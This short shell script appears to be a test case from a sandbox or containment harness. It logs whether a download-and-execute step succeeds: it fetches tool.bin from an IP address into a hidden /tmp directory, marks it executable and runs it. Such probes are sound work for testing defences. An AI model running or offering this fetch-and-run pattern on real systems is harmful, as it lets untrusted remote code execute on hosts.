#!/bin/sh
. /cases/attempt.sh
mkdir -p /tmp/.t
curl -s -m 5 -o /tmp/.t/id http://198.51.100.9:8080/tool.bin
attempted fetch $?
chmod 755 /tmp/.t/id 2>/dev/null
/tmp/.t/id
attempted run $? && effect "downloaded binary ran"
finish
